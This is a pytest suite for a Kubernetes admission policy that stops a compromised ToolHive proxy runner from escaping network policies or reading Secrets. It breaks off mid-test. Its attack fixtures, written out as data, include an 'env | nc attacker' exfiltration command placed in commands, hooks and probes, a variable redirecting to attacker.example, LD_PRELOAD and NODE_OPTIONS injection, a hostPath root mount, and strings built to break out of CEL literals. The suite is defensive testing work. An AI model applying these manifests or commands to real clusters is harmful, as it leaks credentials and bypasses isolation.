"""The workload policy against a compromised ToolHive proxy runner (or any other service account
of a profile's namespace) trying to get around the namespace's network policies or read its Secrets.

The policy's CEL is evaluated with test_bundles_admission's evaluator (match conditions, variables,
validations, message expressions). The StatefulSet the proxy runner legitimately applies is built
from the facts read in stacklok/toolhive v0.44.0 (`toolhive_statefulset`, sources cited there and in
generator/render/kubernetes/workloads.py), from the MCPServer the profile ships as `kubectl
kustomize` renders it; every attack is that object changed as an attacker would change it.
"""

from __future__ import annotations

import copy
import re
from typing import Any

import pytest
import yaml

from conftest import DEFAULT_SOURCE
from test_bundles_admission import render_files, run_policy
from generator.render.kubernetes import workloads as k8s_workloads
from generator.render.kubernetes.admission import cel_value
from generator.render.kubernetes.statefulset_rules import selected_label_keys

NAMESPACE = "mcp-production"
RUNNER = f"system:serviceaccount:{NAMESPACE}:"
FOLDERS = {"current": "bundles/registries/production/", "legacy": "bundles/registries/production/legacy/"}
VARIANTS = list(FOLDERS)


@pytest.fixture(scope="module")
def files() -> dict[str, bytes]:
    return render_files(DEFAULT_SOURCE)


def load(files: dict[str, bytes], path: str) -> dict[str, Any]:
    return yaml.safe_load(files[path])


def bound_policy(files: dict[str, bytes], variant: str, stem: str) -> dict[str, Any]:
    """The variant's `admission-policy-<stem>.yaml`, checked to be bound to the profile's namespace, denying."""
    folder = FOLDERS[variant] if variant == "legacy" else FOLDERS[variant] + "base/"
    policy = load(files, f"{folder}admission-policy-{stem}.yaml")
    binding = load(files, f"{folder}admission-policy-binding-{stem}.yaml")
    assert binding["spec"] == {
        "policyName": policy["metadata"]["name"], "validationActions": ["Deny"],
        "matchResources": {"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": NAMESPACE}}},
    }
    assert policy["spec"]["failurePolicy"] == "Fail"
    return policy


def workload_policy(files: dict[str, bytes], variant: str) -> dict[str, Any]:
    """The variant's workload policy, checked to be bound to the profile's namespace, denying."""
    return bound_policy(files, variant, "workloads")


def mcp_server(files: dict[str, bytes], variant: str, name: str) -> dict[str, Any]:
    return load(files, f"{FOLDERS[variant]}servers/{name}/mcpserver.yaml")


def toolhive_statefulset(server: dict[str, Any]) -> dict[str, Any]:
    """The StatefulSet ToolHive's proxy runner applies for `server` (an MCPServer), as v0.44.0 builds it:

    - the operator passes the MCPServer's podTemplateSpec with `serviceAccountName: <name>-sa` and one
      env entry per `spec.secrets` entry (secretKeyRef) on the `mcp` container (deploymentForMCPServer
      and mcpServerServiceAccountName in cmd/thv-operator/controllers/mcpserver_controller.go,
      WithServiceAccount and WithSecrets in cmd/thv-operator/pkg/controllerutil/podtemplatespec_builder.go);
    - the proxy runner names the StatefulSet after the container (the MCPServer's name), labels it and
      its pod template `toolhive`, `app` and AddStandardLabels' `toolhive-*`, selects `app`, and fills
      in the `mcp` container and the pod security context (DeployWorkload, ensurePodTemplateConfig,
      applyStatefulSet and buildStatefulSetSpec in pkg/container/kubernetes/client.go; pkg/labels/labels.go);
    - the API server's conversion fills the deprecated `serviceAccount` from `serviceAccountName`.
    """
    name = server["metadata"]["name"]
    spec = server["spec"]
    template = copy.deepcopy(spec["podTemplateSpec"])
    pod = template["spec"]
    pod["serviceAccountName"] = pod["serviceAccount"] = f"{name}-sa"
    pod["restartPolicy"] = "Always"
    mcp = next(container for container in pod["containers"] if container["name"] == "mcp")
    mcp["image"] = spec["image"]
    mcp["args"] = list(spec.get("args", []))
    # The runner's variables, sorted by name (buildSortedEnvVarList): the MCPServer's env (RunConfig.EnvVars,
    # mcpserver_runconfig.go) and the transport's (pkg/runtime/setup.go); then the operator's Secret entries.
    variables = {item["name"]: item.get("value", "") for item in spec.get("env", [])}
    variables["MCP_TRANSPORT"] = spec["transport"]
    if spec["transport"] != "stdio":
        port = str(spec.get("mcpPort", 8080))
        variables.update(MCP_PORT=port, FASTMCP_PORT=port, MCP_HOST="0.0.0.0")
    mcp["env"] = [{"name": key, "value": value} for key, value in sorted(variables.items())] + [
        {"name": item["targetEnvName"], "valueFrom": {"secretKeyRef": {"name": item["name"], "key": item["key"]}}}
        for item in spec.get("secrets", [])
    ]
    labels = {
        "toolhive": "true", "toolhive-name": name, "toolhive-basename": name, "toolhive-transport": spec["transport"],
        "toolhive-port": str(spec.get("mcpPort", 8080)), "app": name,
    }
    template["metadata"] = {
        "labels": dict(labels), "annotations": {"toolhive.stacklok.dev/mcpserver-generation": "1"}}
    return {
        "apiVersion": "apps/v1", "kind": "StatefulSet",
        "metadata": {"name": name, "namespace": NAMESPACE, "labels": dict(labels)},
        "spec": {"selector": {"matchLabels": {"app": name}}, "serviceName": name, "template": template},
    }


def review(policy: dict[str, Any], statefulset: dict[str, Any], account: str, operation: str = "CREATE") -> list[str]:
    """The policy's messages for `account` (a ServiceAccount name in the namespace, or a full user
    name after `user:`) applying `statefulset`; [] means admitted."""
    rules = policy["spec"]["matchConstraints"]["resourceRules"]
    assert any("statefulsets" in rule["resources"] and operation in rule["operations"] for rule in rules)
    username = account.removeprefix("user:") if account.startswith("user:") else RUNNER + account
    request = {
        "operation": operation, "namespace": NAMESPACE, "userInfo": {"username": username},
        "resource": {"group": "apps", "version": "v1", "resource": "statefulsets"},
    }
    if operation == "DELETE":  # no object: the StatefulSet as it was
        return run_policy(policy["spec"], request, None, statefulset)
    return run_policy(policy["spec"], request, statefulset, statefulset if operation == "UPDATE" else None)


def refused(policy: dict[str, Any], statefulset: dict[str, Any], account: str, *fragments: str) -> list[str]:
    messages = review(policy, statefulset, account)
    assert messages, "admitted"
    for fragment in fragments:
        assert any(fragment in message for message in messages), (fragment, messages)
    return messages


SERVERS = ["github", "grafana", "fetch", "sqlite"]


# --- what ToolHive applies is admitted ------------------------------------------------


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("name", SERVERS)
def test_the_statefulset_toolhive_applies_is_admitted(files: dict[str, bytes], variant: str, name: str) -> None:
    policy = workload_policy(files, variant)
    statefulset = toolhive_statefulset(mcp_server(files, variant, name))
    for operation in ("CREATE", "UPDATE", "DELETE"):
        assert review(policy, statefulset, f"{name}-proxy-runner", operation) == [], operation


def test_the_legitimate_statefulset_carries_what_the_rules_check(files: dict[str, bytes]) -> None:
    """The built object really exercises the rules: secrets in env, pull secrets, volumes, its labels."""
    statefulset = toolhive_statefulset(mcp_server(files, "current", "github"))
    pod = statefulset["spec"]["template"]["spec"]
    assert pod["imagePullSecrets"] == [{"name": "mirror-pull"}]
    assert {"name": "GITHUB_PERSONAL_ACCESS_TOKEN", "valueFrom": {"secretKeyRef": {
        "name": "github-secrets", "key": "GITHUB_PERSONAL_ACCESS_TOKEN"}}} in pod["containers"][0]["env"]
    assert pod["volumes"] and all(set(volume) == {"name", "emptyDir"} for volume in pod["volumes"])


def test_people_and_other_namespaces_service_accounts_are_left_to_the_other_layers(files: dict[str, bytes]) -> None:
    """The policy matches only the namespace's own service accounts: not the platform team, not the
    operator (toolhive-system), not a service account of another namespace of the same prefix."""
    policy = workload_policy(files, "current")
    attack = toolhive_statefulset(mcp_server(files, "current", "github"))
    attack["spec"]["template"]["metadata"]["labels"]["mcp-catalog/component"] = "registry-api"
    assert refused(policy, attack, "github-proxy-runner")
    for user in ("platform-admin", "system:serviceaccount:toolhive-system:toolhive-operator",
                 "system:serviceaccount:mcp-production-2:github-proxy-runner"):
        assert review(policy, attack, f"user:{user}") == [], user


# --- every way around the network policies or to a Secret is refused ----------------------


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize(
    ("label", "value", "expected"),
    [
        ("mcp-catalog/component", "registry-api", "may not carry the label mcp-catalog/component"),
        ("app.kubernetes.io/name", "mcpserver", "may not carry the label app.kubernetes.io/name"),
        ("app.kubernetes.io/name", "mcpremoteproxy", "may not carry the label app.kubernetes.io/name"),
        ("app.kubernetes.io/name", "github", "may not carry the label app.kubernetes.io/name"),
        ("mcp-catalog/anything", "x", "may not carry the label mcp-catalog/anything"),
        ("toolhive-name", "fetch", "must be labelled toolhive-name: github and app: github"),
        ("app", "fetch", "must be labelled toolhive-name: github and app: github"),
        ("toolhive", "false", "must be labelled toolhive: \"true\""),
        ("toolhive", "True", "must be labelled toolhive: \"true\""),
    ],
)
def test_forged_pod_labels_are_refused(files: dict[str, bytes], variant: str, label: str, value: str, expected: str) -> None:
    policy = workload_policy(files, variant)
    attack = toolhive_statefulset(mcp_server(files, variant, "github"))
    attack["spec"]["template"]["metadata"]["labels"][label] = value
    refused(policy, attack, "github-proxy-runner", f"StatefulSet github's pod template {expected}")


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("label", ["toolhive", "toolhive-name", "app"])
def test_missing_toolhive_labels_are_refused(files: dict[str, bytes], variant: str, label: str) -> None:
    policy = workload_policy(files, variant)
    attack = toolhive_statefulset(mcp_server(files, variant, "github"))
    del attack["spec"]["template"]["metadata"]["labels"][label]
    refused(policy, attack, "github-proxy-runner", "StatefulSet github's pod template must be labelled")
    del attack["spec"]["template"]["metadata"]
    refused(policy, attack, "github-proxy-runner", "must be labelled toolhive: \"true\"", "must be labelled toolhive-name")


def _mcp_server_names(files: dict[str, bytes], variant: str) -> list[str]:
    prefix = f"{FOLDERS[variant]}servers/"
    return sorted(path.removeprefix(prefix).split("/")[0] for path in files
                  if path.startswith(prefix) and path.endswith("/mcpserver.yaml"))


def _image_of(files: dict[str, bytes], variant: str, name: str) -> str:
    return mcp_server(files, variant, name)["spec"]["image"]


CONTAINER_ATTACKS = {
    "a foreign image": lambda pod, other: pod["containers"][0].update(image="registry.internal/tools/busybox:1.36"),
    "another server's image": lambda pod, other: pod["containers"][0].update(image=other),
    "the same image under the latest tag": lambda pod, other: pod["containers"][0].update(
        image=pod["containers"][0]["image"].split("@")[0].rsplit(":", 1)[0] + ":latest"),
    "extra arguments": lambda pod, other: pod["containers"][0].update(args=["--read-only=false"]),
    "a command": lambda pod, other: pod["containers"][0].update(command=["/bin/sh", "-c", "env | nc attacker 80"]),
    "a postStart hook": lambda pod, other: pod["containers"][0].update(
        lifecycle={"postStart": {"exec": {"command": ["/bin/sh", "-c", "env | nc attacker 80"]}}}),
    "an exec liveness probe": lambda pod, other: pod["containers"][0].update(
        livenessProbe={"exec": {"command": ["/bin/sh", "-c", "env | nc attacker 80"]}}),
    "a readiness probe calling another host": lambda pod, other: pod["containers"][0].update(
        readinessProbe={"httpGet": {"host": "postgres", "port": 5432, "path": "/"}}),
    "a startup probe": lambda pod, other: pod["containers"][0].update(startupProbe={"tcpSocket": {"port": 8080}}),
    "NODE_OPTIONS loading a module": lambda pod, other: pod["containers"][0]["env"].append(
        {"name": "NODE_OPTIONS", "value": "--import=data:text/javascript,process.exit(1)"}),
    "LD_PRELOAD from a Secret": lambda pod, other: pod["containers"][0]["env"].append(
        {"name": "LD_PRELOAD", "valueFrom": {"secretKeyRef": {"name": "github-secrets", "key": "GITHUB_PERSONAL_ACCESS_TOKEN"}}}),
    "the server's own Secret whole (envFrom)": lambda pod, other: pod["containers"][0].update(
        envFrom=[{"secretRef": {"name": "github-secrets"}}]),
    "a variable pointing the server elsewhere": lambda pod, other: pod["containers"][0]["env"].append(
        {"name": "GITHUB_HOST", "value": "https://attacker.example"}),
    "a Secret's key under another variable": lambda pod, other: pod["containers"][0]["env"].append(
        {"name": "OTHER", "valueFrom": {"secretKeyRef": {"name": "github-secrets", "key": "GITHUB_PERSONAL_ACCESS_TOKEN"}}}),
    "a sidecar": lambda pod, other: pod["containers"].append({"name": "helper", "image": other}),
    "the container renamed": lambda pod, other: pod["containers"][0].update(name="server"),
    "an init container": lambda pod, other: pod.setdefault("initContainers", []).append(
        {"name": "init", "image": pod["containers"][0]["image"], "command": ["/bin/sh"]}),
    "no image": lambda pod, other: pod["containers"][0].pop("image"),
}


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("attack", sorted(CONTAINER_ATTACKS))
def test_the_mcp_container_runs_only_what_the_profile_ships(files: dict[str, bytes], variant: str, attack: str) -> None:
    """A proxy runner (say one taken over through its network-facing proxy) runs only the server's
    shipped image, with its shipped arguments, as the only container: anything else would run with
    the server's Secret, service account and network reach."""
    policy = workload_policy(files, variant)
    statefulset = toolhive_statefulset(mcp_server(files, variant, "github"))
    pod = statefulset["spec"]["template"]["spec"]
    CONTAINER_ATTACKS[attack](pod, _image_of(files, variant, "fetch"))
    expected = f"StatefulSet github must run one container, mcp, with image {_image_of(files, variant, 'github')}, the arguments "
    for operation in ("CREATE", "UPDATE"):
        messages = review(policy, statefulset, "github-proxy-runner", operation)
        assert any(message.startswith(expected) for message in messages), (operation, messages)
    assert review(policy, statefulset, "github-proxy-runner", "DELETE") == []  # deleting its own is its job


@pytest.mark.parametrize("variant", VARIANTS)
def test_each_server_runs_its_own_image(files: dict[str, bytes], variant: str) -> None:
    """Every shipped MCPServer's StatefulSet is admitted as ToolHive makes it, and with any other
    shipped server's image refused."""
    policy = workload_policy(files, variant)
    names = _mcp_server_names(files, variant)
    assert len(names) >= 4
    for name in names:
        for other in names:
            statefulset = toolhive_statefulset(mcp_server(files, variant, name))
            statefulset["spec"]["template"]["spec"]["containers"][0]["image"] = _image_of(files, variant, other)
            admitted = review(policy, statefulset, f"{name}-proxy-runner") == []
            assert admitted == (_image_of(files, variant, other) == _image_of(files, variant, name)), (name, other)


def test_a_large_profile_pins_every_container_across_its_workload_policies(monkeypatch: pytest.MonkeyPatch) -> None:
    """Past the policy size budget the servers' containers are spread over several workload policies
    (each bound like the first): every server is admitted by all of them, and its StatefulSet with
    another image is refused by the one holding it."""
    from generator.render.kubernetes import admission
    monkeypatch.setattr(admission, "SHAPES_BUDGET", 200)  # two servers a part
    monkeypatch.setattr(admission, "EXPRESSION_BUDGET", 40)  # the shipped names over several variables
    split = render_files(DEFAULT_SOURCE)
    folder = FOLDERS["current"] + "base/"
    extra = sorted(path for path in split if path.startswith(f"{folder}admission-policy-workloads-"))
    assert len(extra) >= 2, extra
    policies = [workload_policy(split, "current")] + [load(split, path) for path in extra]
    for path, policy in zip(extra, policies[1:]):
        binding = load(split, path.replace("admission-policy-workloads", "admission-policy-binding-workloads"))
        assert binding["spec"]["policyName"] == policy["metadata"]["name"] and binding["spec"]["validationActions"] == ["Deny"]
    names = _mcp_server_names(split, "current")
    for name in names:
        statefulset = toolhive_statefulset(mcp_server(split, "current", name))
        assert [review(policy, statefulset, f"{name}-proxy-runner") for policy in policies] == [[]] * len(policies), name
        statefulset["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.internal/tools/busybox:1.36"
        refusing = [policy["metadata"]["name"] for policy in policies if review(policy, statefulset, f"{name}-proxy-runner")]
        assert len(refusing) == 1, (name, refusing)
    assert len([v for v in policies[0]["spec"]["variables"] if v["name"].startswith("containerServers_")]) >= 2
    withdrawn = _withdrawn(split, "current")
    assert [bool(review(policy, withdrawn, "retired-proxy-runner")) for policy in policies] == [True] + [False] * len(extra)


def test_every_label_the_network_policies_select_by_is_pinned_or_refused(files: dict[str, bytes]) -> None:
    """Read from the shipped NetworkPolicies themselves: a label key a later policy selects pods by
    must be added to the workload policy (pinned to what ToolHive sets, or refused)."""
    keys = set()
    for path, content in files.items():
        if path.startswith("bundles/") and path.endswith(".yaml") and b"kind: NetworkPolicy" in content:
            for document in yaml.safe_load_all(content):
                if document and document.get("kind") == "NetworkPolicy":
                    keys |= _selector_keys(document["spec"], document["metadata"].get("namespace"))
    assert {"toolhive", "toolhive-name", "app.kubernetes.io/name", "mcp-catalog/component"} <= keys
    assert keys == set(selected_label_keys())
    policy = workload_policy(files, "current")
    for key in sorted(keys):
        attack = toolhive_statefulset(mcp_server(files, "current", "fetch"))
        attack["spec"]["template"]["metadata"]["labels"][key] = "forged"
        assert review(policy, attack, "fetch-proxy-runner"), key


def _selector_keys(node: Any, namespace: str | None) -> set[str]:
    """Every label key of every podSelector in a NetworkPolicy spec that can select a pod of the
    policy's own namespace (a peer whose namespaceSelector names another namespace, the cluster's
    DNS in kube-system, cannot: a pod labelled like it in the profile's namespace gains nothing)."""
    found: set[str] = set()
    if isinstance(node, dict):
        names = (node.get("namespaceSelector") or {}).get("matchLabels", {})
        if names.get("kubernetes.io/metadata.name", namespace) != namespace:
            return found
        for key, value in node.items():
            if key == "podSelector":
                found |= set(value.get("matchLabels") or {})
                found |= {expression["key"] for expression in value.get("matchExpressions") or []}
            else:
                found |= _selector_keys(value, namespace)
    elif isinstance(node, list):
        for item in node:
            found |= _selector_keys(item, namespace)
    return found


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_statefulset_under_another_name_is_refused(files: dict[str, bytes], variant: str) -> None:
    """fetch's proxy runner making a StatefulSet named github (with github's labels and service account:
    github's egress and Secret) or any other name is refused."""
    policy = workload_policy(files, variant)
    github = toolhive_statefulset(mcp_server(files, variant, "github"))
    refused(policy, github, "fetch-proxy-runner",
            f"{RUNNER}fetch-proxy-runner may not create, change or delete StatefulSet github: in namespace {NAMESPACE} a "
            "service account creates, changes or deletes a StatefulSet only as the ToolHive proxy runner of the MCPServer of the same name "
            "(service account github-proxy-runner)")
    for other in ("registry", "fetch-2", "postgres"):
        attack = toolhive_statefulset(mcp_server(files, variant, "fetch"))
        attack["metadata"]["name"] = other
        refused(policy, attack, "fetch-proxy-runner", f"may not create, change or delete StatefulSet {other}")



def _withdrawn(files: dict[str, bytes], variant: str, image: str | None = None) -> dict[str, Any]:
    """The StatefulSet ToolHive would apply for an MCPServer `retired` applied while the profile shipped
    it (fetch's, renamed), with `image` in its container if given."""
    server = copy.deepcopy(mcp_server(files, variant, "fetch"))
    server["metadata"]["name"] = "retired"
    statefulset = toolhive_statefulset(server)
    if image is not None:
        statefulset["spec"]["template"]["spec"]["containers"][0]["image"] = image
    return statefulset


@pytest.mark.parametrize("variant", VARIANTS)
def test_a_server_the_profile_no_longer_ships_gets_no_new_statefulset(files: dict[str, bytes], variant: str) -> None:
    """An MCPServer applied before its server left the profile (withdrawn) keeps its proxy runner, and
    no part of the container rule knows its name: that runner may delete its StatefulSet, and create or
    change none, with the server's last image or any other."""
    policy = workload_policy(files, variant)
    for image in (None, _image_of(files, variant, "fetch"), "registry.internal/tools/busybox:1.36"):
        statefulset = _withdrawn(files, variant, image)
        for operation in ("CREATE", "UPDATE"):
            assert review(policy, statefulset, "retired-proxy-runner", operation) == [
                "StatefulSet retired runs no server registry profile production ships: its proxy runner may delete it, "
                "not create or change it (delete the MCPServer of a server the profile no longer ships)"], (image, operation)
        assert review(policy, statefulset, "retired-proxy-runner", "DELETE") == []

def platform_postgres_statefulset() -> dict[str, Any]:
    """The registry's PostgreSQL, run by the platform team in the namespace (its claim `data-postgres-0`)."""
    labels = {"app": "postgres"}
    return {
        "apiVersion": "apps/v1", "kind": "StatefulSet", "metadata": {"name": "postgres", "namespace": NAMESPACE, "labels": labels},
        "spec": {"selector": {"matchLabels": labels}, "serviceName": "postgres", "replicas": 1,
                 "template": {"metadata": {"labels": labels}, "spec": {"containers": [
                     {"name": "postgres", "image": "postgres:17", "volumeMounts": [{"name": "data", "mountPath": "/var/lib/postgresql"}]}]}},
                 "volumeClaimTemplates": [{"metadata": {"name": "data"}, "spec": {
                     "accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "10Gi"}}}}]},
    }


def test_the_policy_matches_create_update_and_delete(files: dict[str, bytes]) -> None:
    for variant in VARIANTS:
        rules = workload_policy(files, variant)["spec"]["matchConstraints"]["resourceRules"]
        assert rules == [{"apiGroups": ["apps"], "apiVersions": ["*"], "operations": ["CREATE", "UPDATE", "DELETE"],
                          "resources": ["statefulsets"]}]


@pytest.mark.parametrize("variant", VARIANTS)
def test_deleting_another_servers_statefulset_is_refused(files: dict[str, bytes], variant: str) -> None:
    """fetch's proxy runner may delete every StatefulSet of the namespace (its Role): deleting github's
    (whose Services the garbage collector then deletes) or the registry's PostgreSQL is refused; its own
    is admitted, whatever its template held (a DELETE is not checked for the template's shape)."""
    policy = workload_policy(files, variant)
    github = toolhive_statefulset(mcp_server(files, variant, "github"))
    assert review(policy, github, "fetch-proxy-runner", "DELETE") == [
        f"{RUNNER}fetch-proxy-runner may not create, change or delete StatefulSet github: in namespace {NAMESPACE} a "
        "service account creates, changes or deletes a StatefulSet only as the ToolHive proxy runner of the MCPServer "
        "of the same name (service account github-proxy-runner); no other service account of the namespace runs workloads"]
    postgres = platform_postgres_statefulset()
    for account in ("fetch-proxy-runner", "github-proxy-runner", "postgres-sa", "default"):
        messages = review(policy, postgres, account, "DELETE")
        assert len(messages) == 1 and "may not create, change or delete StatefulSet postgres" in messages[0], (account, messages)
    assert review(policy, github, "github-proxy-runner", "DELETE") == []
    assert review(policy, postgres, "user:platform-admin", "DELETE") == []
    own = toolhive_statefulset(mcp_server(files, variant, "fetch"))
    own["spec"]["template"]["metadata"]["labels"]["toolhive"] = "false"
    own["spec"]["replicas"] = 3
    assert review(policy, own, "fetch-proxy-runner", "DELETE") == []
    assert review(policy, own, "fetch-proxy-runner", "UPDATE")


def _volume_attacks() -> dict[str, Any]:
    """Every way to a disk of the namespace or past the scheduler (attack -> how to apply it to the StatefulSet)."""
    claim = {"accessModes": ["ReadWriteOnce"], "resources": {"requests": {"storage": "10Gi"}},
             "dataSourceRef": {"kind": "PersistentVolumeClaim", "name": "data-postgres-0"}}
    return {
        "persistentVolumeClaim": lambda sts: sts["spec"]["template"]["spec"]["volumes"].append(
            {"name": "db", "persistentVolumeClaim": {"claimName": "data-postgres-0", "readOnly": True}}),
        "ephemeral dataSourceRef": lambda sts: sts["spec"]["template"]["spec"]["volumes"].append(
            {"name": "db", "ephemeral": {"volumeClaimTemplate": {"spec": claim}}}),
        "hostPath": lambda sts: sts["spec"]["template"]["spec"]["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
        "projected clusterTrustBundle": lambda sts: sts["spec"]["template"]["spec"]["volumes"].append(
            {"name": "p", "projected": {"sources": [{"configMap": {"name": "x"}}, {"clusterTrustBundle": {"name": "x", "path": "b"}}]}}),
        "volumeClaimTemplates": lambda sts: sts["spec"].update(
            volumeClaimTemplates=[{"metadata": {"name": "db"}, "spec": claim}]),
        "priorityClassName": lambda sts: sts["spec"]["template"]["spec"].update(priorityClassName="system-node-critical"),
        "nodeName": lambda sts: sts["spec"]["template"]["spec"].update(nodeName="control-plane-1"),
        "replicas": lambda sts: sts["spec"].update(replicas=5),
    }


VOLUME_MESSAGES = {
    "persistentVolumeClaim": "StatefulSet github's pods may mount only emptyDir, configMap, downwardAPI and projected volumes (projected "
                             "from configMap, downwardAPI and serviceAccountToken sources alone), as ToolHive's pod template does",
    "ephemeral dataSourceRef": "StatefulSet github's pods may mount only emptyDir",
    "hostPath": "StatefulSet github's pods may mount only emptyDir",
    "projected clusterTrustBundle": "StatefulSet github's pods may mount only emptyDir",
    "volumeClaimTemplates": "StatefulSet github may have no volumeClaimTemplates",
    "priorityClassName": "StatefulSet github's pods may set no priorityClassName and no nodeName",
    "nodeName": "StatefulSet github's pods may set no priorityClassName and no nodeName",
    "replicas": "StatefulSet github may run at most one replica",
}


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("attack", list(_volume_attacks()))
def test_claims_node_pinning_priority_and_replicas_are_refused(files: dict[str, bytes], variant: str, attack: str) -> None:
    """The registry's database disk (`data-postgres-0`) mounted, cloned by an ephemeral volume or a
    volumeClaimTemplate, a priority class pre-empting pods cluster-wide, a node chosen past the scheduler,
    more replicas than ToolHive runs: each refused, by its own rule alone."""
    policy = workload_policy(files, variant)
    statefulset = toolhive_statefulset(mcp_server(files, variant, "github"))
    _volume_attacks()[attack](statefulset)
    for operation in ("CREATE", "UPDATE"):
        messages = review(policy, statefulset, "github-proxy-runner", operation)
        assert len(messages) == 1 and messages[0].startswith(VOLUME_MESSAGES[attack]), (operation, messages)


@pytest.mark.parametrize("variant", VARIANTS)
def test_the_allowed_volume_types_and_one_replica_are_admitted(files: dict[str, bytes], variant: str) -> None:
    policy = workload_policy(files, variant)
    statefulset = toolhive_statefulset(mcp_server(files, variant, "github"))
    pod = statefulset["spec"]["template"]["spec"]
    pod["volumes"] += [
        {"name": "c", "configMap": {"name": "github-config"}},
        {"name": "d", "downwardAPI": {"items": [{"path": "labels", "fieldRef": {"fieldPath": "metadata.labels"}}]}},
        {"name": "p", "projected": {"defaultMode": 420, "sources": [
            {"serviceAccountToken": {"path": "token", "expirationSeconds": 3607}},
            {"configMap": {"name": "kube-root-ca.crt", "items": [{"key": "ca.crt", "path": "ca.crt"}]}},
            {"downwardAPI": {"items": [{"path": "namespace", "fieldRef": {"fieldPath": "metadata.namespace"}}]}}]}},
    ]
    pod["priorityClassName"] = pod["nodeName"] = ""
    statefulset["spec"]["volumeClaimTemplates"] = []
    for replicas in (0, 1):  # the API server defaults an unset count to 1
        statefulset["spec"]["replicas"] = replicas
        assert review(policy, statefulset, "github-proxy-runner") == [], replicas


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("account", ["github-sa", "default", "production", "toolhive-registry-server", "github-proxy-runner-x",
                                     "proxy-runner", "-proxy-runner"])
def test_service_accounts_that_are_no_proxy_runner_create_no_statefulset(files: dict[str, bytes], variant: str, account: str) -> None:
    """The MCP server's own service account, the registry's, `default` or any other of the namespace."""
    policy = workload_policy(files, variant)
    statefulset = toolhive_statefulset(mcp_server(files, variant, "github"))
    for operation in ("CREATE", "UPDATE", "DELETE"):
        assert review(policy, statefulset, account, operation), (account, operation)


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("account", ["github-proxy-runner", "github-sa", "default", "production-registry-api", "grafana-sa"])
def test_pods_run_only_as_the_mcp_servers_service_account(files: dict[str, bytes], variant: str, account: str) -> None:
    policy = workload_policy(files, variant)
    attack = toolhive_statefulset(mcp_server(files, variant, "fetch"))
    attack["spec"]["template"]["spec"]["serviceAccountName"] = attack["spec"]["template"]["spec"]["serviceAccount"] = account
    refused(policy, attack, "fetch-proxy-runner", "StatefulSet fetch's pods must run as service account fetch-sa")
    # The deprecated field alone, or left out (the namespace's `default` account).
    attack["spec"]["template"]["spec"]["serviceAccountName"] = "fetch-sa"
    refused(policy, attack, "fetch-proxy-runner", "must run as service account fetch-sa")
    del attack["spec"]["template"]["spec"]["serviceAccountName"]
    del attack["spec"]["template"]["spec"]["serviceAccount"]
    refused(policy, attack, "fetch-proxy-runner", "must run as service account fetch-sa")


def _secret_references(secret: str) -> dict[str, Any]:
    """Every way a pod template can take a Secret (form -> how to add it to the template)."""
    return {
        "env": lambda pod: pod["containers"][0].setdefault("env", []).append(
            {"name": "X", "valueFrom": {"secretKeyRef": {"name": secret, "key": ".pgpass"}}}),
        "envFrom": lambda pod: pod["containers"][0].setdefault("envFrom", []).append({"secretRef": {"name": secret}}),
        "initContainer env": lambda pod: pod.setdefault("initContainers", []).append(
            {"name": "init", "image": "busybox", "env": [{"name": "X", "valueFrom": {"secretKeyRef": {"name": secret, "key": "k"}}}]}),
        "initContainer envFrom": lambda pod: pod.setdefault("initContainers", []).append(
            {"name": "init", "image": "busybox", "envFrom": [{"secretRef": {"name": secret}}]}),
        "ephemeralContainer env": lambda pod: pod.setdefault("ephemeralContainers", []).append(
            {"name": "debug", "image": "busybox", "envFrom": [{"secretRef": {"name": secret}}]}),
        "secret volume": lambda pod: pod["volumes"].append({"name": "pw", "secret": {"secretName": secret}}),
        "projected volume": lambda pod: pod["volumes"].append(
            {"name": "pw", "projected": {"sources": [{"configMap": {"name": "x"}}, {"secret": {"name": secret}}]}}),
        "csi volume": lambda pod: pod["volumes"].append(
            {"name": "pw", "csi": {"driver": "x", "nodePublishSecretRef": {"name": secret}}}),
        "imagePullSecrets": lambda pod: pod.setdefault("imagePullSecrets", []).append({"name": secret}),
    }


FORMS = list(_secret_references("x"))


@pytest.mark.parametrize("variant", VARIANTS)
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize(("server", "secret"), [
    ("github", "production-pgpass"),  # the MCPRegistry's database password
    ("github", "production-db"),  # the registry server chart's
    ("github", "grafana-secrets"),  # another server's credentials
    ("fetch", "github-secrets"),
    ("fetch", "fetch-secrets"),  # a server shipped without secrets reads none
])
def test_secrets_the_server_is_not_given_are_refused(files: dict[str, bytes], variant: str, form: str, server: str, secret: str) -> None:
    policy = workload_policy(files, variant)
    attack = toolhive_statefulset(mcp_server(files, variant, server))
    _secret_references(secret)[form](attack["spec"]["template"]["spec"])
    refused(policy, attack, f"{server}-proxy-runner", f"StatefulSet {server}'s ")


@pytest.mark.parametrize("form", ["secret volume", "projected volume", "csi volume", "imagePullSecrets", "envFrom"])
def test_the_servers_own_secret_is_read_only_as_toolhive_reads_it(files: dict[str, bytes], form: str) -> None:
    """github-secrets goes into github's environment by secretKeyRef; mounting it, taking it whole or
    using it as a pull secret is not what ToolHive does. Taking it whole (envFrom) is refused by the
    container rule: every key would become a variable, a code-loading one (NODE_OPTIONS) included."""
    policy = workload_policy(files, "current")
    statefulset = toolhive_statefulset(mcp_server(files, "current", "github"))
    _secret_references("github-secrets")[form](statefulset["spec"]["template"]["spec"])
    messages = review(policy, statefulset, "github-proxy-runner")
    assert messages
    if form == "envFrom":
        assert messages == [m for m in messages if m.startswith("StatefulSet github must run one container, mcp, ")]


def test_hostile_names_cannot_break_out_of_the_cel_literals() -> None:
    """Names are DNS labels (catalog validation), but every literal is escaped all the same: a quote,
    a backslash or a non-ASCII character in a namespace, server or Secret name stays one string."""
    hostile = 'x"] || true || ["\\\u00e9'
    namespace = 'ns" || true || "'
    runs = {hostile: cel_value({"image": hostile + "-image", "args": [hostile], "env": {}, "secretEnv": ["T"]})}
    [policy] = k8s_workloads.workload_policies('p" + "', namespace, {hostile: [hostile + "-s"], "other": []}, [hostile], runs)
    statefulset = {
